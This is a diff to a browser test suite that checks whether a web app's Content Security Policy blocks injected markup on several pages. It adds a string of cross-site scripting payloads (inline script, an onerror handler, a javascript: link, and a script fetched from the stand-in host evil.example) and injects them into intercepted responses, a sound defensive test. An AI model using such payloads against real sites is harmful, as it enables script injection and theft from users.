@@ -127,8 +127,11 @@ test('hostile words that people stored run nowhere (promise 19)', async ({
   const look = async (path: string) => {
     const answer = await page.goto(path)
     expect([path, answer!.status()]).toEqual([path, 200])
-    // A picture that is none says so when it has been tried.
-    await page.waitForFunction(() => [...document.images].every(({ complete }) => complete))
+    // A picture that is none says so when it has been tried, also one far below.
+    await page.waitForFunction(() => {
+      for (const picture of document.images) picture.loading = 'eager'
+      return [...document.images].every(({ complete }) => complete)
+    })
     expect([path, await callsOf()]).toEqual([path, []])
     // It stands there as words.
     return page.locator('body').innerText()
@@ -160,33 +163,39 @@ test('hostile words that people stored run nowhere (promise 19)', async ({
   await specialist.dispose()
 })
 
+const PAGES = ['/', '/specialists', '/auth', '/fa/contact']
+
+/** As markup that the server let through would stand in a page. */
+const INJECTED = `<script>fired(1)</script><img src="data:," onerror="fired(2)">
+  <a id="injected" href="javascript:fired(3)">x</a><script src="https://evil.example/x.js"></script>`
+
 test('an injected script is blocked by the policy alone (promise 19)', async ({ page, watch }) => {
   const callsOf = await watchForCalls(page)
-  for (const path of ['/', '/specialists', '/auth', '/fa/contact']) {
-    await page.goto(path)
-    const refused = page.evaluate(
-      () =>
-        new Promise<void>((done) => {
-          let count = 0
-          document.addEventListener('securitypolicyviolation', () => {
-            count += 1
-            if (count === 4) done()
-          })
-        }),
+  await page.addInitScript(() => {
+    const refused: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      refused.push(effectiveDirective),
     )
-    await page.evaluate(() => {
-      const script = document.createElement('script')
-      script.textContent = 'fired(1)'
-      document.body.append(script)
-      const holder = document.createElement('div')
-      holder.innerHTML = '<img src="data:," onerror="fired(2)"><a href="javascript:fired(3)">x</a>'
-      document.body.append(holder)
-      holder.querySelector('a')!.click()
-      const elsewhere = document.createElement('script')
-      elsewhere.src = 'https://evil.example/x.js'
-      document.body.append(elsewhere)
-    })
-    await refused
+    Object.assign(globalThis, { refused })
+  })
+  await page.route(
+    (url) => PAGES.includes(url.pathname),
+    async (route) => {
+      const answer = await route.fetch()
+      const html = await answer.text()
+      expect(html).toContain('</body>')
+      await route.fulfill({
+        response: answer,
+        body: html.replace('</body>', () => `${INJECTED}</body>`),
+      })
+    },
+  )
+  for (const path of PAGES) {
+    await page.goto(path)
+    await page.evaluate(() => document.querySelector<HTMLElement>('#injected')!.click())
+    const refused = () =>
+      page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused.length)
+    await expect.poll(refused).toBeGreaterThanOrEqual(4)
     expect([path, await callsOf()]).toEqual([path, []])
   }
   expect(watch.complaints.join()).toContain('Content Security Policy')
